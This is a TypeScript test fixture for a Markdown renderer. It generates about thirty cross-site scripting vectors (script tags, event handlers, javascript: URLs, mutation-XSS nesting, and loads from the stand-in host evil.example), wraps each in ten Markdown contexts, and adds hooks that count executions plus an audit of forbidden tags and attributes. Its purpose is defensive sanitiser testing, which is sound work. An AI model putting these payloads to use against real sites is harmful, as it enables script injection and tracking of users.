/**
 * Hostile payloads for the renderer, generated as vectors × Markdown contexts. Every vector tries
 * to run `__pwn()` (a page global the test counts), call alert, or make the page fetch from an
 * outside host; each payload carries a visible marker so the test can prove it was rendered.
 */
export const VECTORS = [
  '<script>__pwn()</script>',
  '<img src=x onerror=__pwn()>',
  '<img src="https://evil.example/a.png">',
  '<svg onload=__pwn()>',
  '<svg><script>__pwn()</script></svg>',
  '<iframe src="javascript:__pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn()</script>"></iframe>',
  'javascript:__pwn()',
  'JaVaScRiPt:alert(1)',
  'java\tscript:__pwn()',
  'data:text/html,<script>__pwn()</script>',
  'vbscript:msgbox(1)',
  '<a href="javascript:__pwn()">x</a>',
  '<body onload=__pwn()>',
  '<details open ontoggle=__pwn()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwn()>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="javascript:__pwn()"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:__pwn()">',
  '"><img src=x onerror=__pwn()>',
  "'-__pwn()-'",
  '<video><source onerror=__pwn()></video>',
  '<input autofocus onfocus=__pwn()>',
  '&lt;script&gt;__pwn()&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=__pwn()>">',
  '[a](javascript:__pwn())',
  '![a](https://evil.example/track.png)',
  '<base href="https://evil.example/">',
  '<a href="https://evil.example" ping="https://evil.example/ping">p</a>',
] as const;

const CONTEXTS: ((p: string) => string)[] = [
  (p) => p,
  (p) => `\`${p}\``,
  (p) => `\`\`\`\n${p}\n\`\`\``,
  (p) => `[${p}](https://example.com/)`,
  (p) => `[click](${p})`,
  (p) => `![x](${p})`,
  (p) => `<${p}>`,
  (p) => `# ${p}`,
  (p) => `| a |\n|---|\n| ${p} |`,
  (p) => `> ${p}`,
];

export interface Payload {
  marker: string;
  markdown: string;
}

/** Every vector in every context, each preceded by its own marker paragraph. */
export function xssPayloads(): Payload[] {
  const out: Payload[] = [];
  VECTORS.forEach((vector, v) => {
    CONTEXTS.forEach((context, c) => {
      const marker = `XSSMARK${v}x${c}`;
      out.push({ marker, markdown: `${marker}\n\n${context(vector)}` });
    });
  });
  return out;
}

/** Installed before any page script: counts executions and CSP violations. */
export const HOOKS = `
  window.__xssCount = 0;
  window.__pwn = () => { window.__xssCount += 1; };
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = () => { window.__xssCount += 1; };
  }
  window.__cspViolations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI);
  });
`;

/** Elements and attributes that must never appear inside rendered Markdown. */
export const AUDIT = `(() => {
  const bad = [];
  const forbidden = 'script,iframe,img,svg,math,object,embed,style,link,meta,base,form,input,video,audio,source,details,noscript,body';
  for (const root of document.querySelectorAll('.markdown')) {
    for (const el of root.querySelectorAll(forbidden)) bad.push('tag ' + el.tagName);
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name) || attr.name === 'srcdoc' || attr.name === 'ping' || attr.name === 'style') bad.push('attr ' + attr.name);
        if ((attr.name === 'href' || attr.name === 'src') && !/^(https?:|mailto:|#)/i.test(attr.value)) bad.push('url ' + attr.value);
      }
    }
  }
  return bad;
})()`;
